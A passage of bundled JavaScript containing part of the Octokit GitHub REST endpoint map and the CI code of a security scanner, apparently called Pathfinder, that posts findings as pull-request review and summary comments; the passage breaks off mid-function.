    renameBranch: ["POST /repos/{owner}/{repo}/branches/{branch}/rename"],
    replaceAllTopics: ["PUT /repos/{owner}/{repo}/topics"],
    requestPagesBuild: ["POST /repos/{owner}/{repo}/pages/builds"],
    setAdminBranchProtection: [
      "POST /repos/{owner}/{repo}/branches/{branch}/protection/enforce_admins"
    ],
    setAppAccessRestrictions: [
      "PUT /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/apps",
      {},
      { mapToData: "apps" }
    ],
    setStatusCheckContexts: [
      "PUT /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks/contexts",
      {},
      { mapToData: "contexts" }
    ],
    setTeamAccessRestrictions: [
      "PUT /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/teams",
      {},
      { mapToData: "teams" }
    ],
    setUserAccessRestrictions: [
      "PUT /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/users",
      {},
      { mapToData: "users" }
    ],
    testPushWebhook: ["POST /repos/{owner}/{repo}/hooks/{hook_id}/tests"],
    transfer: ["POST /repos/{owner}/{repo}/transfer"],
    update: ["PATCH /repos/{owner}/{repo}"],
    updateBranchProtection: [
      "PUT /repos/{owner}/{repo}/branches/{branch}/protection"
    ],
    updateCommitComment: ["PATCH /repos/{owner}/{repo}/comments/{comment_id}"],
    updateDeploymentBranchPolicy: [
      "PUT /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies/{branch_policy_id}"
    ],
    updateInformationAboutPagesSite: ["PUT /repos/{owner}/{repo}/pages"],
    updateInvitation: [
      "PATCH /repos/{owner}/{repo}/invitations/{invitation_id}"
    ],
    updateOrgRuleset: ["PUT /orgs/{org}/rulesets/{ruleset_id}"],
    updatePullRequestReviewProtection: [
      "PATCH /repos/{owner}/{repo}/branches/{branch}/protection/required_pull_request_reviews"
    ],
    updateRelease: ["PATCH /repos/{owner}/{repo}/releases/{release_id}"],
    updateReleaseAsset: [
      "PATCH /repos/{owner}/{repo}/releases/assets/{asset_id}"
    ],
    updateRepoRuleset: ["PUT /repos/{owner}/{repo}/rulesets/{ruleset_id}"],
    updateStatusCheckPotection: [
      "PATCH /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks",
      {},
      { renamed: ["repos", "updateStatusCheckProtection"] }
    ],
    updateStatusCheckProtection: [
      "PATCH /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks"
    ],
    updateWebhook: ["PATCH /repos/{owner}/{repo}/hooks/{hook_id}"],
    updateWebhookConfigForRepo: [
      "PATCH /repos/{owner}/{repo}/hooks/{hook_id}/config"
    ],
    uploadReleaseAsset: [
      "POST /repos/{owner}/{repo}/releases/{release_id}/assets{?name,label}",
      { baseUrl: "https://uploads.github.com" }
    ]
  },
  search: {
    code: ["GET /search/code"],
    commits: ["GET /search/commits"],
    issuesAndPullRequests: ["GET /search/issues"],
    labels: ["GET /search/labels"],
    repos: ["GET /search/repositories"],
    topics: ["GET /search/topics"],
    users: ["GET /search/users"]
  },
  secretScanning: {
    createPushProtectionBypass: [
      "POST /repos/{owner}/{repo}/secret-scanning/push-protection-bypasses"
    ],
    getAlert: [
      "GET /repos/{owner}/{repo}/secret-scanning/alerts/{alert_number}"
    ],
    getScanHistory: ["GET /repos/{owner}/{repo}/secret-scanning/scan-history"],
    listAlertsForOrg: ["GET /orgs/{org}/secret-scanning/alerts"],
    listAlertsForRepo: ["GET /repos/{owner}/{repo}/secret-scanning/alerts"],
    listLocationsForAlert: [
      "GET /repos/{owner}/{repo}/secret-scanning/alerts/{alert_number}/locations"
    ],
    listOrgPatternConfigs: [
      "GET /orgs/{org}/secret-scanning/pattern-configurations"
    ],
    updateAlert: [
      "PATCH /repos/{owner}/{repo}/secret-scanning/alerts/{alert_number}"
    ],
    updateOrgPatternConfigs: [
      "PATCH /orgs/{org}/secret-scanning/pattern-configurations"
    ]
  },
  securityAdvisories: {
    createFork: [
      "POST /repos/{owner}/{repo}/security-advisories/{ghsa_id}/forks"
    ],
    createPrivateVulnerabilityReport: [
      "POST /repos/{owner}/{repo}/security-advisories/reports"
    ],
    createRepositoryAdvisory: [
      "POST /repos/{owner}/{repo}/security-advisories"
    ],
    createRepositoryAdvisoryCveRequest: [
      "POST /repos/{owner}/{repo}/security-advisories/{ghsa_id}/cve"
    ],
    getGlobalAdvisory: ["GET /advisories/{ghsa_id}"],
    getRepositoryAdvisory: [
      "GET /repos/{owner}/{repo}/security-advisories/{ghsa_id}"
    ],
    listGlobalAdvisories: ["GET /advisories"],
    listOrgRepositoryAdvisories: ["GET /orgs/{org}/security-advisories"],
    listRepositoryAdvisories: ["GET /repos/{owner}/{repo}/security-advisories"],
    updateRepositoryAdvisory: [
      "PATCH /repos/{owner}/{repo}/security-advisories/{ghsa_id}"
    ]
  },
  teams: {
    addOrUpdateMembershipForUserInOrg: [
      "PUT /orgs/{org}/teams/{team_slug}/memberships/{username}"
    ],
    addOrUpdateRepoPermissionsInOrg: [
      "PUT /orgs/{org}/teams/{team_slug}/repos/{owner}/{repo}"
    ],
    checkPermissionsForRepoInOrg: [
      "GET /orgs/{org}/teams/{team_slug}/repos/{owner}/{repo}"
    ],
    create: ["POST /orgs/{org}/teams"],
    createDiscussionCommentInOrg: [
      "POST /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments"
    ],
    createDiscussionInOrg: ["POST /orgs/{org}/teams/{team_slug}/discussions"],
    deleteDiscussionCommentInOrg: [
      "DELETE /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}"
    ],
    deleteDiscussionInOrg: [
      "DELETE /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}"
    ],
    deleteInOrg: ["DELETE /orgs/{org}/teams/{team_slug}"],
    getByName: ["GET /orgs/{org}/teams/{team_slug}"],
    getDiscussionCommentInOrg: [
      "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}"
    ],
    getDiscussionInOrg: [
      "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}"
    ],
    getMembershipForUserInOrg: [
      "GET /orgs/{org}/teams/{team_slug}/memberships/{username}"
    ],
    list: ["GET /orgs/{org}/teams"],
    listChildInOrg: ["GET /orgs/{org}/teams/{team_slug}/teams"],
    listDiscussionCommentsInOrg: [
      "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments"
    ],
    listDiscussionsInOrg: ["GET /orgs/{org}/teams/{team_slug}/discussions"],
    listForAuthenticatedUser: ["GET /user/teams"],
    listMembersInOrg: ["GET /orgs/{org}/teams/{team_slug}/members"],
    listPendingInvitationsInOrg: [
      "GET /orgs/{org}/teams/{team_slug}/invitations"
    ],
    listReposInOrg: ["GET /orgs/{org}/teams/{team_slug}/repos"],
    removeMembershipForUserInOrg: [
      "DELETE /orgs/{org}/teams/{team_slug}/memberships/{username}"
    ],
    removeRepoInOrg: [
      "DELETE /orgs/{org}/teams/{team_slug}/repos/{owner}/{repo}"
    ],
    updateDiscussionCommentInOrg: [
      "PATCH /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}"
    ],
    updateDiscussionInOrg: [
      "PATCH /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}"
    ],
    updateInOrg: ["PATCH /orgs/{org}/teams/{team_slug}"]
  },
  users: {
    addEmailForAuthenticated: [
      "POST /user/emails",
      {},
      { renamed: ["users", "addEmailForAuthenticatedUser"] }
    ],
    addEmailForAuthenticatedUser: ["POST /user/emails"],
    addSocialAccountForAuthenticatedUser: ["POST /user/social_accounts"],
    block: ["PUT /user/blocks/{username}"],
    checkBlocked: ["GET /user/blocks/{username}"],
    checkFollowingForUser: ["GET /users/{username}/following/{target_user}"],
    checkPersonIsFollowedByAuthenticated: ["GET /user/following/{username}"],
    createGpgKeyForAuthenticated: [
      "POST /user/gpg_keys",
      {},
      { renamed: ["users", "createGpgKeyForAuthenticatedUser"] }
    ],
    createGpgKeyForAuthenticatedUser: ["POST /user/gpg_keys"],
    createPublicSshKeyForAuthenticated: [
      "POST /user/keys",
      {},
      { renamed: ["users", "createPublicSshKeyForAuthenticatedUser"] }
    ],
    createPublicSshKeyForAuthenticatedUser: ["POST /user/keys"],
    createSshSigningKeyForAuthenticatedUser: ["POST /user/ssh_signing_keys"],
    deleteAttestationsBulk: [
      "POST /users/{username}/attestations/delete-request"
    ],
    deleteAttestationsById: [
      "DELETE /users/{username}/attestations/{attestation_id}"
    ],
    deleteAttestationsBySubjectDigest: [
      "DELETE /users/{username}/attestations/digest/{subject_digest}"
    ],
    deleteEmailForAuthenticated: [
      "DELETE /user/emails",
      {},
      { renamed: ["users", "deleteEmailForAuthenticatedUser"] }
    ],
    deleteEmailForAuthenticatedUser: ["DELETE /user/emails"],
    deleteGpgKeyForAuthenticated: [
      "DELETE /user/gpg_keys/{gpg_key_id}",
      {},
      { renamed: ["users", "deleteGpgKeyForAuthenticatedUser"] }
    ],
    deleteGpgKeyForAuthenticatedUser: ["DELETE /user/gpg_keys/{gpg_key_id}"],
    deletePublicSshKeyForAuthenticated: [
      "DELETE /user/keys/{key_id}",
      {},
      { renamed: ["users", "deletePublicSshKeyForAuthenticatedUser"] }
    ],
    deletePublicSshKeyForAuthenticatedUser: ["DELETE /user/keys/{key_id}"],
    deleteSocialAccountForAuthenticatedUser: ["DELETE /user/social_accounts"],
    deleteSshSigningKeyForAuthenticatedUser: [
      "DELETE /user/ssh_signing_keys/{ssh_signing_key_id}"
    ],
    follow: ["PUT /user/following/{username}"],
    getAuthenticated: ["GET /user"],
    getById: ["GET /user/{account_id}"],
    getByUsername: ["GET /users/{username}"],
    getContextForUser: ["GET /users/{username}/hovercard"],
    getGpgKeyForAuthenticated: [
      "GET /user/gpg_keys/{gpg_key_id}",
      {},
      { renamed: ["users", "getGpgKeyForAuthenticatedUser"] }
    ],
    getGpgKeyForAuthenticatedUser: ["GET /user/gpg_keys/{gpg_key_id}"],
    getPublicSshKeyForAuthenticated: [
      "GET /user/keys/{key_id}",
      {},
      { renamed: ["users", "getPublicSshKeyForAuthenticatedUser"] }
    ],
    getPublicSshKeyForAuthenticatedUser: ["GET /user/keys/{key_id}"],
    getSshSigningKeyForAuthenticatedUser: [
      "GET /user/ssh_signing_keys/{ssh_signing_key_id}"
    ],
    list: ["GET /users"],
    listAttestations: ["GET /users/{username}/attestations/{subject_digest}"],
    listAttestationsBulk: [
      "POST /users/{username}/attestations/bulk-list{?per_page,before,after}"
    ],
    listBlockedByAuthenticated: [
      "GET /user/blocks",
      {},
      { renamed: ["users", "listBlockedByAuthenticatedUser"] }
    ],
    listBlockedByAuthenticatedUser: ["GET /user/blocks"],
    listEmailsForAuthenticated: [
      "GET /user/emails",
      {},
      { renamed: ["users", "listEmailsForAuthenticatedUser"] }
    ],
    listEmailsForAuthenticatedUser: ["GET /user/emails"],
    listFollowedByAuthenticated: [
      "GET /user/following",
      {},
      { renamed: ["users", "listFollowedByAuthenticatedUser"] }
    ],
    listFollowedByAuthenticatedUser: ["GET /user/following"],
    listFollowersForAuthenticatedUser: ["GET /user/followers"],
    listFollowersForUser: ["GET /users/{username}/followers"],
    listFollowingForUser: ["GET /users/{username}/following"],
    listGpgKeysForAuthenticated: [
      "GET /user/gpg_keys",
      {},
      { renamed: ["users", "listGpgKeysForAuthenticatedUser"] }
    ],
    listGpgKeysForAuthenticatedUser: ["GET /user/gpg_keys"],
    listGpgKeysForUser: ["GET /users/{username}/gpg_keys"],
    listPublicEmailsForAuthenticated: [
      "GET /user/public_emails",
      {},
      { renamed: ["users", "listPublicEmailsForAuthenticatedUser"] }
    ],
    listPublicEmailsForAuthenticatedUser: ["GET /user/public_emails"],
    listPublicKeysForUser: ["GET /users/{username}/keys"],
    listPublicSshKeysForAuthenticated: [
      "GET /user/keys",
      {},
      { renamed: ["users", "listPublicSshKeysForAuthenticatedUser"] }
    ],
    listPublicSshKeysForAuthenticatedUser: ["GET /user/keys"],
    listSocialAccountsForAuthenticatedUser: ["GET /user/social_accounts"],
    listSocialAccountsForUser: ["GET /users/{username}/social_accounts"],
    listSshSigningKeysForAuthenticatedUser: ["GET /user/ssh_signing_keys"],
    listSshSigningKeysForUser: ["GET /users/{username}/ssh_signing_keys"],
    setPrimaryEmailVisibilityForAuthenticated: [
      "PATCH /user/email/visibility",
      {},
      { renamed: ["users", "setPrimaryEmailVisibilityForAuthenticatedUser"] }
    ],
    setPrimaryEmailVisibilityForAuthenticatedUser: [
      "PATCH /user/email/visibility"
    ],
    unblock: ["DELETE /user/blocks/{username}"],
    unfollow: ["DELETE /user/following/{username}"],
    updateAuthenticated: ["PATCH /user"]
  }
};
var endpoints_default = Endpoints;

// node_modules/@octokit/plugin-rest-endpoint-methods/dist-src/endpoints-to-methods.js
var endpointMethodsMap = /* @__PURE__ */ new Map();
for (const [scope, endpoints] of Object.entries(endpoints_default)) {
  for (const [methodName, endpoint3] of Object.entries(endpoints)) {
    const [route, defaults, decorations] = endpoint3;
    const [method, url] = route.split(/ /);
    const endpointDefaults = Object.assign(
      {
        method,
        url
      },
      defaults
    );
    if (!endpointMethodsMap.has(scope)) {
      endpointMethodsMap.set(scope, /* @__PURE__ */ new Map());
    }
    endpointMethodsMap.get(scope).set(methodName, {
      scope,
      methodName,
      endpointDefaults,
      decorations
    });
  }
}
var handler = {
  has({ scope }, methodName) {
    return endpointMethodsMap.get(scope).has(methodName);
  },
  getOwnPropertyDescriptor(target, methodName) {
    return {
      value: this.get(target, methodName),
      // ensures method is in the cache
      configurable: true,
      writable: true,
      enumerable: true
    };
  },
  defineProperty(target, methodName, descriptor) {
    Object.defineProperty(target.cache, methodName, descriptor);
    return true;
  },
  deleteProperty(target, methodName) {
    delete target.cache[methodName];
    return true;
  },
  ownKeys({ scope }) {
    return [...endpointMethodsMap.get(scope).keys()];
  },
  set(target, methodName, value) {
    return target.cache[methodName] = value;
  },
  get({ octokit, scope, cache }, methodName) {
    if (cache[methodName]) {
      return cache[methodName];
    }
    const method = endpointMethodsMap.get(scope).get(methodName);
    if (!method) {
      return void 0;
    }
    const { endpointDefaults, decorations } = method;
    if (decorations) {
      cache[methodName] = decorate(
        octokit,
        scope,
        methodName,
        endpointDefaults,
        decorations
      );
    } else {
      cache[methodName] = octokit.request.defaults(endpointDefaults);
    }
    return cache[methodName];
  }
};
function endpointsToMethods(octokit) {
  const newMethods = {};
  for (const scope of endpointMethodsMap.keys()) {
    newMethods[scope] = new Proxy({ octokit, scope, cache: {} }, handler);
  }
  return newMethods;
}
function decorate(octokit, scope, methodName, defaults, decorations) {
  const requestWithDefaults = octokit.request.defaults(defaults);
  function withDecorations(...args2) {
    let options = requestWithDefaults.endpoint.merge(...args2);
    if (decorations.mapToData) {
      options = Object.assign({}, options, {
        data: options[decorations.mapToData],
        [decorations.mapToData]: void 0
      });
      return requestWithDefaults(options);
    }
    if (decorations.renamed) {
      const [newScope2, newMethodName] = decorations.renamed;
      octokit.log.warn(
        `octokit.${scope}.${methodName}() has been renamed to octokit.${newScope2}.${newMethodName}()`
      );
    }
    if (decorations.deprecated) {
      octokit.log.warn(decorations.deprecated);
    }
    if (decorations.renamedParameters) {
      const options2 = requestWithDefaults.endpoint.merge(...args2);
      for (const [name2, alias] of Object.entries(
        decorations.renamedParameters
      )) {
        if (name2 in options2) {
          octokit.log.warn(
            `"${name2}" parameter is deprecated for "octokit.${scope}.${methodName}()". Use "${alias}" instead`
          );
          if (!(alias in options2)) {
            options2[alias] = options2[name2];
          }
          delete options2[name2];
        }
      }
      return requestWithDefaults(options2);
    }
    return requestWithDefaults(...args2);
  }
  return Object.assign(withDecorations, requestWithDefaults);
}

// node_modules/@octokit/plugin-rest-endpoint-methods/dist-src/index.js
function restEndpointMethods(octokit) {
  const api = endpointsToMethods(octokit);
  return {
    rest: api
  };
}
restEndpointMethods.VERSION = VERSION9;
function legacyRestEndpointMethods(octokit) {
  const api = endpointsToMethods(octokit);
  return {
    ...api,
    rest: api
  };
}
legacyRestEndpointMethods.VERSION = VERSION9;

// node_modules/@octokit/rest/dist-src/version.js
var VERSION10 = "22.0.1";

// node_modules/@octokit/rest/dist-src/index.js
var Octokit2 = Octokit.plugin(requestLog, legacyRestEndpointMethods, paginateRest).defaults(
  {
    userAgent: `octokit-rest.js/${VERSION10}`
  }
);

// src/ci/github/client.ts
var PathfinderOctokit = Octokit2.plugin(retry, throttling);
function createGitHubClient(options) {
  const secrets = [options.token];
  const say = (message15) => options.warn(redact(String(message15), secrets));
  const retries = options.rateLimitRetries ?? 2;
  const onLimit = (retryAfter, request2, _octokit, retryCount) => {
    say(`GitHub rate limit on ${request2.method} ${request2.url}; ${retryCount < retries ? `retrying in ${retryAfter}s` : "giving up"}`);
    return retryCount < retries;
  };
  const timeoutMs = options.timeoutMs ?? 3e4;
  const fetchWithTimeout = (input, init2) => {
    const deadline = AbortSignal.timeout(timeoutMs);
    const signal = init2?.signal ? AbortSignal.any([init2.signal, deadline]) : deadline;
    return fetch(input, { ...init2, signal });
  };
  return new PathfinderOctokit({
    auth: options.token,
    baseUrl: options.apiUrl,
    userAgent: options.userAgent,
    // Octokit logs every failed request at error level, handled ones too; callers report failures themselves.
    log: { debug: () => {
    }, info: () => {
    }, warn: say, error: () => {
    } },
    request: { fetch: fetchWithTimeout },
    retry: { retryAfterBaseValue: options.retryBaseMs ?? 1e3 },
    throttle: options.throttle === false ? { enabled: false } : { onRateLimit: onLimit, onSecondaryRateLimit: onLimit }
  });
}

// src/ci/github/context.ts
import { readFileSync as readFileSync4 } from "node:fs";
var DEFAULT_API_URL = "https://api.github.com";
function readEvent(path) {
  if (!path) return void 0;
  try {
    const data = JSON.parse(readFileSync4(path, "utf8"));
    return typeof data === "object" && data !== null ? data : void 0;
  } catch {
    return void 0;
  }
}
function serverUrlFor(apiUrl) {
  const trimmed = apiUrl.replace(/\/+$/, "");
  if (trimmed === DEFAULT_API_URL) return "https://github.com";
  return trimmed.replace(/\/api\/v3$/, "");
}
function resolveGitHubContext(flags2, env) {
  const missing = [];
  const token = flags2.token || env.GITHUB_TOKEN || "";
  if (!token) missing.push("a token (--github-token or GITHUB_TOKEN)");
  const slug2 = flags2.repo || env.GITHUB_REPOSITORY || "";
  const [owner, repo, ...rest] = slug2.split("/");
  if (!owner || !repo || rest.length > 0) missing.push("the repository as owner/repo (--github-repo or GITHUB_REPOSITORY)");
  const event = readEvent(env.GITHUB_EVENT_PATH);
  const eventNumber = Number(event?.pull_request?.number ?? Number.NaN);
  const pullNumber = flags2.pr ?? (Number.isInteger(eventNumber) && eventNumber > 0 ? eventNumber : void 0);
  if (pullNumber === void 0 || !Number.isInteger(pullNumber) || pullNumber <= 0) {
    missing.push("the pull request number (--github-pr or a pull_request event in GITHUB_EVENT_PATH)");
  }
  if (missing.length > 0) return { ok: false, missing };
  const apiUrl = (flags2.apiUrl || env.GITHUB_API_URL || DEFAULT_API_URL).replace(/\/+$/, "");
  const serverUrl = (env.GITHUB_SERVER_URL || serverUrlFor(apiUrl)).replace(/\/+$/, "");
  const context = { token, owner, repo, pullNumber, apiUrl, serverUrl };
  const headSha = event?.pull_request?.head?.sha;
  if (typeof headSha === "string" && /^[0-9a-f]{40}$/i.test(headSha) && eventNumber === pullNumber) context.headSha = headSha;
  return { ok: true, context };
}

// src/ci/github/markdown.ts
var SUMMARY_MARKER = "<!-- pathfinder:summary -->";
var FINDING_MARKER = /<!-- pathfinder:finding:([A-Za-z0-9._:+/=-]+) -->/;
var MAX_BODY = 6e4;
var MAX_TABLE_ROWS = 50;
function findingMarker(fingerprint) {
  return `<!-- pathfinder:finding:${fingerprint.replace(/[^A-Za-z0-9._:+/=-]/g, "_")} -->`;
}
function markerIn(body2) {
  const match = FINDING_MARKER.exec(body2 ?? "");
  return match ? findingMarker(match[1]) : void 0;
}
var SEVERITY_ICON = { critical: "\u{1F534}", high: "\u{1F7E0}", medium: "\u{1F7E1}", low: "\u{1F535}" };
function capitalize(text) {
  return text.charAt(0).toUpperCase() + text.slice(1);
}
function cell(text) {
  return text.replace(/\r?\n/g, " ").replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/\|/g, "\\|").replace(/@/g, "@\u200B");
}
function code2(text) {
  const clean = text.replace(/\r?\n/g, " ");
  return clean.includes("`") ? `<code>${cell(clean)}</code>` : `\`${clean}\``;
}
function severityCounts(findings) {
  const parts2 = [];
  for (const severity of SEVERITIES) {
    const count = findings.filter((f) => f.severity === severity).length;
    if (count > 0) parts2.push(`${count} ${severity}`);
  }
  return parts2.join(", ");
}
function plural3(count, word) {
  return `${count} ${word}${count === 1 ? "" : "s"}`;
}
function ruleDocsUrl(informationUri, ruleId2) {
  if (!informationUri) return void 0;
  return `${informationUri.replace(/\/+$/, "")}/rules/${encodeURIComponent(ruleId2)}`;
}
function ruleLink(informationUri, ruleId2) {
  const url = ruleDocsUrl(informationUri, ruleId2);
  return url ? `[${cell(ruleId2)}](${url})` : code2(ruleId2);
}
function cweUrl(cwe) {
  const number = /^CWE-(\d+)$/i.exec(cwe)?.[1];
  return number ? `https://cwe.mitre.org/data/definitions/${number}.html` : void 0;
}
function blobUrl(serverUrl, repository, sha, path, line) {
  const encoded = path.split("/").map(encodeURIComponent).join("/");
  return `${serverUrl.replace(/\/+$/, "")}/${repository}/blob/${sha}/${encoded}#L${line}`;
}
function truncate2(body2) {
  if (body2.length <= MAX_BODY) return body2;
  return `${body2.slice(0, MAX_BODY)}

\u2026 (truncated: the full list is in the SARIF report)
`;
}
function findingRow(finding, input) {
  const path = input.pathOf(finding);
  const label = `${path}:${finding.location.line}`;
  return `| ${SEVERITY_ICON[finding.severity]} ${capitalize(finding.severity)} | ${ruleLink(input.tool.informationUri, finding.ruleId)} ${cell(finding.ruleName)} | [${cell(label)}](${input.linkTo(finding)}) |`;
}
function findingTable(findings, input) {
  const rows = findings.slice(0, MAX_TABLE_ROWS).map((f) => findingRow(f, input));
  const out2 = ["| Severity | Rule | Location |", "| --- | --- | --- |", ...rows];
  if (findings.length > MAX_TABLE_ROWS) out2.push("", `\u2026 and ${findings.length - MAX_TABLE_ROWS} more in the SARIF report.`);
  return out2;
}
function renderSummary2(input) {
  const out2 = [SUMMARY_MARKER, `## \u{1F50E} ${input.tool.name} security scan`, ""];
  const scope = input.scopeNote ?? "the whole project";
  if (input.introduced.length === 0) {
    out2.push(`\u2705 **No new findings** on ${scope}.`);
  } else {
    out2.push(
      `\u274C **${plural3(input.introduced.length, "new finding")}** on ${scope}: ${severityCounts(input.introduced)}.`,
      "",
      ...findingTable(input.introduced, input)
    );
  }
  if (input.notInline.length > 0) {
    out2.push(
      "",
      `### Not shown inline`,
      "",
      `${plural3(input.notInline.length, "finding")} could not be attached to a line of this pull request's diff:`,
      "",
      ...input.notInline.slice(0, MAX_TABLE_ROWS).map((f) => `- [${cell(input.pathOf(f))}:${f.location.line}](${input.linkTo(f)}) ${cell(f.ruleId)}: ${cell(f.message)}`)
    );
  }
  if (input.preexisting.length > 0) {
    out2.push(
      "",
      `<details><summary>${plural3(input.preexisting.length, "finding")} already present outside the changed lines (${severityCounts(input.preexisting)})</summary>`,
      "",
      ...findingTable(input.preexisting, input),
      "",
      "</details>"
    );
  }
  if (input.baselined > 0) out2.push("", `${plural3(input.baselined, "finding")} suppressed by the baseline.`);
  out2.push("", `<sub>${cell(input.tool.name)} ${cell(input.tool.version)} \xB7 updated on every run</sub>`, "");
  return truncate2(out2.join("\n"));
}
function renderInlineComment(finding, rule, informationUri) {
  const out2 = [
    findingMarker(finding.fingerprint),
    `**${SEVERITY_ICON[finding.severity]} ${capitalize(finding.severity)}: ${cell(finding.ruleName)}** (${code2(finding.ruleId)})`,
    "",
    finding.message
  ];
  const why = rule?.docs.securityImplications || rule?.docs.description;
  if (why) out2.push("", `**Why this is dangerous:** ${why}`);
  const fix2 = rule?.docs.howToFix || rule?.docs.fixHint;
  if (fix2) out2.push("", `**How to fix:** ${fix2}`);
  const tags = [
    ...finding.cwe.map((c) => {
      const url = cweUrl(c);
      return url ? `[${c}](${url})` : c;
    }),
    ...finding.owasp.map((o) => `OWASP ${o}`)
  ];
  const docs = ruleDocsUrl(informationUri, finding.ruleId);
  if (docs) tags.push(`[Rule documentation](${docs})`);
  out2.push("", tags.join(" \xB7 "), "");
  return truncate2(out2.join("\n"));
}

// src/ci/github/pull-diff.ts
var HUNK_HEADER2 = /^@@ -\d+(?:,\d+)? \+(\d+)(?:,\d+)? @@/;
function rightSideLines(patch) {
  const result2 = /* @__PURE__ */ new Set();
  let next = 0;
  let inHunk = false;
  for (const line of patch.split("\n")) {
    const hunk = HUNK_HEADER2.exec(line);
    if (hunk) {
      next = Number(hunk[1]);
      inHunk = true;
      continue;
    }
    if (!inHunk) continue;
    const marker = line.charAt(0);
    if (marker === "+" || marker === " ") result2.add(next++);
  }
  return result2;
}
async function commentableLines(client, context) {
  const files = await client.paginate(client.rest.pulls.listFiles, {
    owner: context.owner,
    repo: context.repo,
    pull_number: context.pullNumber,
    per_page: 100
  });
  const result2 = /* @__PURE__ */ new Map();
  for (const file of files) {
    if (typeof file.patch === "string" && file.status !== "removed") result2.set(file.filename, rightSideLines(file.patch));
  }
  return result2;
}

// src/ci/github/review.ts
function statusOf(error) {
  const status = error?.status;
  return typeof status === "number" ? status : void 0;
}
async function existingCommentsByMarker(client, context) {
  const byMarker = /* @__PURE__ */ new Map();
  for await (const page of client.paginate.iterator(client.rest.pulls.listReviewComments, {
    owner: context.owner,
    repo: context.repo,
    pull_number: context.pullNumber,
    per_page: 100
  })) {
    for (const comment of page.data) {
      const marker = markerIn(comment.body);
      if (marker && !byMarker.has(marker)) byMarker.set(marker, { id: comment.id, body: comment.body });
    }
  }
  return byMarker;
}
async function createReview(client, context, commitId, body2, comments) {
  const { data } = await client.rest.pulls.createReview({
    owner: context.owner,
    repo: context.repo,
    pull_number: context.pullNumber,
    commit_id: commitId,
    event: "COMMENT",
    body: body2,
    comments: comments.map((c) => ({ path: c.path, line: c.line, side: "RIGHT", body: c.body }))
  });
  return data.id;
}
async function publishInlineComments(client, context, comments, options) {
  const result2 = { created: 0, updated: 0, unchanged: 0, notPlaced: [] };
  const existing = await existingCommentsByMarker(client, context);
  const fresh = [];
  const seen = /* @__PURE__ */ new Set();
  for (const comment of comments) {
    if (seen.has(comment.marker)) continue;
    seen.add(comment.marker);
    const previous = existing.get(comment.marker);
    if (!previous) {
      fresh.push(comment);
    } else if (previous.body === comment.body) {
      result2.unchanged++;
    } else {
      await client.rest.pulls.updateReviewComment({
        owner: context.owner,
        repo: context.repo,
        comment_id: previous.id,
        body: comment.body
      });
      result2.updated++;
    }
  }
  if (fresh.length === 0) return result2;
  try {
    result2.reviewId = await createReview(client, context, options.commitId, options.reviewBody(fresh.length), fresh);
    result2.created = fresh.length;
    return result2;
  } catch (error) {
    if (statusOf(error) !== 422) throw error;
  }
  const allowed = await commentableLines(client, context);
  const placeable = fresh.filter((c) => allowed.get(c.path)?.has(c.line) === true);
  const rejected = fresh.filter((c) => !placeable.includes(c));
  result2.notPlaced.push(...rejected.map((c) => c.finding));
  if (placeable.length === 0 || rejected.length === 0) {
    result2.notPlaced.push(...placeable.map((c) => c.finding));
    return result2;
  }
  try {
    result2.reviewId = await createReview(client, context, options.commitId, options.reviewBody(placeable.length), placeable);
    result2.created = placeable.length;
  } catch (error) {
    if (statusOf(error) !== 422) throw error;
    result2.notPlaced.push(...placeable.map((c) => c.finding));
  }
  return result2;
}

// src/ci/github/summary-comment.ts
async function upsertSummaryComment(client, context, body2) {
  const target = { owner: context.owner, repo: context.repo };
  let existing;
  for await (const page of client.paginate.iterator(client.rest.issues.listComments, {
    ...target,
    issue_number: context.pullNumber,
    per_page: 100
  })) {
    existing = page.data.find((comment) => comment.body?.includes(SUMMARY_MARKER));
    if (existing) break;
  }
  if (existing) {
    if (existing.body === body2) return { action: "unchanged", id: existing.id, url: existing.html_url };
    const { data: data2 } = await client.rest.issues.updateComment({ ...target, comment_id: existing.id, body: body2 });
    return { action: "updated", id: data2.id, url: data2.html_url };
  }
  const { data } = await client.rest.issues.createComment({ ...target, issue_number: context.pullNumber, body: body2 });
  return { action: "created", id: data.id, url: data.html_url };
}

// src/ci/run.ts
function plural4(count, word) {
  return `${count} ${word}${count === 1 ? "" : "s"}`;
}
function countsText(findings) {
  return findings.length === 0 ? "" : ` (${severityCounts(findings)})`;
}
function errorText(error) {
  return error instanceof Error ? error.message : String(error);
}
async function computeDiff(options, warnings) {
  if (!options.diff.enabled) return void 0;
  try {
    const resolveOptions = { env: options.env };
    if (options.diff.base !== void 0) resolveOptions.base = options.diff.base;
    if (options.diff.head !== void 0) resolveOptions.head = options.diff.head;
    const target = await resolveDiffTarget(options.targetDir, resolveOptions);
    if (!target) {
      warnings.push(
        "no base to compare with (no --base, GITHUB_BASE_REF or CI_MERGE_REQUEST_TARGET_BRANCH_NAME): reporting every finding"
      );
      return void 0;
    }
    const [changes, pathPrefix] = await Promise.all([
      readChangeSet(options.targetDir, target.mergeBaseSha, target.headSha),
      workTreePrefix(options.targetDir)
    ]);
    return { target, changes, pathPrefix };
  } catch (error) {
    warnings.push(`cannot compute the diff, reporting every finding: ${errorText(error)}`);
    return void 0;
  }
}
function planInlineComments(report, introduced, diff, pathOf, minSeverity) {
  const rules = new Map(report.rules.map((rule) => [rule.id, rule]));
  const comments = [];
  const notInline = [];
  for (const finding of introduced) {
    if (!atLeast(finding.severity, minSeverity)) continue;
    const path = pathOf(finding);
    const changed = diff?.changes.files.get(path);
    const last = Math.max(finding.location.line, finding.location.endLine);
    let line;
    for (let n = finding.location.line; changed && n <= last && line === void 0; n++) {
      if (changed.addedLines.has(n)) line = n;
    }
    if (line === void 0) {
      notInline.push(finding);
      continue;
    }
    comments.push({
